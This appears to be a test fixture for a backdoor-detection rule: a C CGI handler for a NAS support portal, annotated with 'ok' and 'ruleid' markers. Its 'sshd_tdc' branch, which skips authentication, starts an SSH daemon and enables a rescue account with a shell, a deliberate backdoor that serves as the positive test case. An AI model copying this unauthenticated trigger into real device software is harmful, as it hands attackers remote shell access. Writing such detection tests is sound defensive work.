/* remote_help-cgi: the support portal's remote assistance.
 * type=status reports whether assistance is on, type=open_ticket bundles the logs for a support case,
 * type=sshd_tdc starts the support SSH daemon and enables the rescue account. */
#include "nas.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char kRescueFlag[] = "/etc/zyxel/conf/remote_help.enabled";

int rescue_enabled(void) {
  return access(kRescueFlag, F_OK) == 0;
}

static int qs_get(const char *qs, const char *name, char *out, size_t cap) {
  size_t nlen = strlen(name);
  const char *p = qs;

  while (p != NULL && *p != '\0') {
    const char *amp = strchr(p, '&');
    size_t len = amp ? (size_t)(amp - p) : strlen(p);
    if (len > nlen && strncmp(p, name, nlen) == 0 && p[nlen] == '=') {
      size_t vlen = len - nlen - 1;
      if (vlen >= cap)
        return -1;
      memcpy(out, p + nlen + 1, vlen);
      out[vlen] = '\0';
      return 0;
    }
    p = amp ? amp + 1 : NULL;
  }
  return -1;
}

int remote_help_cgi(int fd, struct http_req *req) {
  char type[32];
  FILE *f;

  if (qs_get(req->query, "type", type, sizeof type) != 0) {
    http_reply(fd, 400, "application/json", "{\"error\":\"type\"}");
    return 400;
  }
  // ok: backdoor-input-trigger
  if (strcmp(type, "status") == 0) {
    http_reply(fd, 200, "application/json", rescue_enabled() ? "{\"remote_help\":1}" : "{\"remote_help\":0}");
    return 200;
  // ok: backdoor-input-trigger
  } else if (strcmp(type, "open_ticket") == 0) {
    if (!session_ok(req)) {
      http_reply(fd, 401, "application/json", "{\"error\":\"login required\"}");
      return 401;
    }
    if (system("/usr/local/zysupport/bin/collect_logs /i-data/sysvol/admin/support.tgz") != 0) {
      http_reply(fd, 500, "application/json", "{\"error\":\"collect failed\"}");
      return 500;
    }
    http_reply(fd, 200, "application/json", "{\"ticket\":\"ready\"}");
    return 200;
  // ruleid: backdoor-input-trigger
  } else if (strcmp(type, "sshd_tdc") == 0) {
    f = fopen(kRescueFlag, "w");
    if (f != NULL)
      fclose(f);
    system("/usr/sbin/sshd -f /etc/zyxel/conf/sshd_tdc_config");
    system("/usr/local/zysupport/bin/rescue_account --enable NsaRescueAngel --shell /bin/sh");
    nas_log(NAS_LOG_INFO, "remote assistance enabled from %s", req->peer_ip);
    http_reply(fd, 200, "application/json", "{\"remote_help\":1}");
    return 200;
  }
  http_reply(fd, 400, "application/json", "{\"error\":\"unknown type\"}");
  return 400;
}
